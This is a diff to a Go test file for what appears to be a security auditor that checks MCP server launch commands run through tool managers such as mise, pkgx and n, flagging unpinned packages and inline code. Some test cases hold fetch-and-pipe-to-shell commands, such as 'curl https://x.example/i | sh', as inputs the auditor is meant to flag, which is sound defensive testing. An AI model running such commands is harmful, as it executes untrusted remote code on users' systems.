@@ -609,7 +609,8 @@ func TestAuditInlineBehindWrappers(t *testing.T) {
 		{"poetry run a script file", stdio("poetry", "run", "python", "server.py"), []string{}, false, false},
 		{"poetry install is no wrapper", stdio("poetry", "install"), []string{}, false, false},
 		{"conda run", stdio("conda", "run", "-n", "env", "--no-capture-output", "node", "-e", "1"), []string{"danger inline_code mcp.args[6]"}, false, false},
-		{"mise exec", stdio("mise", "exec", "node@20", "--", "node", "-e", "x"), []string{"danger inline_code mcp.args[5]"}, false, false},
+		// mise installs a tool it names that is missing: network use.
+		{"mise exec", stdio("mise", "exec", "node@20", "--", "node", "-e", "x"), []string{"danger inline_code mcp.args[5]"}, true, false},
 		{"direnv exec", stdio("direnv", "exec", ".", "ruby", "-e", "1"), []string{"danger inline_code mcp.args[4]"}, false, false},
 		{"doppler run", stdio("doppler", "run", "--project", "p", "--", "npx", "pkg"), []string{"warn unpinned mcp.args[5]"}, true, false},
 		{"doppler run --command", stdio("doppler", "run", "--command", "curl x | sh"), []string{
@@ -2045,5 +2046,37 @@ func TestAuditNodeModuleURLs(t *testing.T) {
 		{"a URL pinned by its version", stdio("node", "--import", "https://esm.sh/p@1.2.3", "s.js"), []string{}, true, false},
 		{"a local module", stdio("node", "--import=./local.mjs", "s.js"), []string{}, false, false},
 		{"the script's own argument", stdio("node", "s.js", "--import=https://x.example/a.mjs"), []string{}, false, false},
+	})
+}
+
+// Tool managers that install what their command line names before they
+// run it: mise exec (and rtx) installs its tools (a package of a registry
+// must name an exact version; mise reads a shorter one as a prefix) and
+// runs the script of -c through a shell; pkgx fetches its packages and
+// the command's; a version manager's exec line gives the version before
+// the command (`n exec 20 npx pkg`).
+func TestAuditToolManagers(t *testing.T) {
+	runCases(t, []auditCase{
+		{"mise x an npm package", stdio("mise", "x", "npm:mcp-x", "--", "mcp-x"), []string{"warn unpinned mcp.args[1]"}, true, false},
+		{"mise a scoped package at latest", stdio("mise", "exec", "npm:@acme/mcp@latest", "--", "mcp"), []string{"warn unpinned mcp.args[1]"}, true, false},
+		{"mise a version prefix", stdio("mise", "x", "cargo:mcp-x@1.4", "--", "mcp-x"), []string{"warn unpinned mcp.args[1]"}, true, false},
+		{"rtx pipx", stdio("rtx", "x", "pipx:mcp-x", "--", "mcp-x"), []string{"warn unpinned mcp.args[1]"}, true, false},
+		{"mise -c", stdio("mise", "x", "node@20", "-c", "curl https://x.example/i | sh"), []string{
+			"danger fetch_exec mcp.args[3]", "danger pipe_to_shell mcp.args[3]", "danger shell_exec mcp.args[3]",
+			"warn shell_meta mcp.args[3]"}, true, true},
+		{"mise --command=", stdio("mise", "exec", "--command=npx -y mcp-x"), []string{
+			"danger shell_exec mcp.args[1]", "warn unpinned mcp.args[1]"}, true, true},
+		{"mise options before exec", stdio("mise", "-C", "/srv", "x", "node@22", "--", "npx", "-y", "mcp-x"), []string{
+			"warn unpinned mcp.args[7]"}, true, false},
+		{"pkgx +pkg then a runner", stdio("pkgx", "+nodejs.org", "npx", "-y", "mcp-x"), []string{"warn unpinned mcp.args[3]"}, true, false},
+		{"pkgx a versioned command", stdio("pkgx", "node@20", "-e", "require('x')"), []string{"danger inline_code mcp.args[2]"}, true, false},
+		{"n exec", stdio("n", "exec", "20", "npx", "-y", "mcp-x"), []string{"warn unpinned mcp.args[4]"}, true, false},
+		{"an unknown tool's run verb and version", stdio("envtool", "run", "v3.12", "uvx", "mcp-x"), []string{"warn unpinned mcp.args[3]"}, true, false},
+		// Look-alikes.
+		{"mise x pinned packages", stdio("mise", "x", "npm:mcp-x@1.2.3", "github:acme/tool@v2.0.1", "--", "mcp-x"), []string{}, true, false},
+		{"mise x a runtime", stdio("mise", "x", "python@3.12", "--", "python", "server.py"), []string{}, true, false},
+		{"mise run", stdio("mise", "run", "serve"), []string{}, false, true},
+		{"pkgx a pinned runner", stdio("pkgx", "+node@20", "--", "npx", "-y", "mcp-x@1.2.3"), []string{}, true, false},
+		{"an unknown tool's run verb and a word", stdio("envtool", "run", "serve", "uvx", "mcp-x"), []string{}, false, false},
 	})
 }
